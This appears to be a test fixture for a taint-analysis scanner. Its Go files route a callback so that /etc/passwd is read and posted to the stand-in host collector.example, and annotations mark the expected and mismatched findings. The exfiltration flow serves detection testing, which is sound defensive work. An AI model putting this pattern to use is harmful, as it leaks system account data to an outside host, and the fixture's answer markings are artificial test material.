// --- path: agent/start.go ---
// A callback that is registered in another file gets what a reader finds.
package agent

import "os"

func start() {
	register("hosts", upload)
	register("count", count)
	watch("hosts", "/etc/passwd")
	watchCount("count", "/etc/group")
}

func watch(topic string, path string) {
	body, err := os.ReadFile(path) //~ source(FILE) f1, source(FILE) f2
	if err == nil {
		emit(topic, body)
	}
}

func watchCount(topic string, path string) {
	body, _ := os.ReadFile(path)
	emitCount(topic, len(body))
}

// --- path: agent/topics.go ---
package agent

type handler func(body []byte)
type counter func(size int)

type topics struct {
	handlers map[string][]handler
	counters map[string][]counter
}

var all = topics{handlers: map[string][]handler{}, counters: map[string][]counter{}}

func register(topic string, h any) {
	switch f := h.(type) {
	case func([]byte):
		all.handlers[topic] = append(all.handlers[topic], f)
	case func(int):
		all.counters[topic] = append(all.counters[topic], f)
	}
}

func emit(topic string, body []byte) {
	for _, h := range all.handlers[topic] {
		h(body)
	}
}

func emitCount(topic string, size int) {
	for _, c := range all.counters[topic] {
		c(size)
	}
}

// --- path: agent/send.go ---
package agent

import (
	"bytes"
	"net/http"
	"strconv"
	"strings"
)

func upload(body []byte) {
	http.Post("https://collector.example/u", "text/plain", bytes.NewReader(body)) //~ sink(egress.http) f1, finding(file-upload, ambiguous) f1
}

func count(size int) {
	http.Post("https://collector.example/n", "text/plain", strings.NewReader(strconv.Itoa(size))) //~ sink(egress.http) f2, SPURIOUS: finding(file-upload, ambiguous) f2, MISSING: ok
}
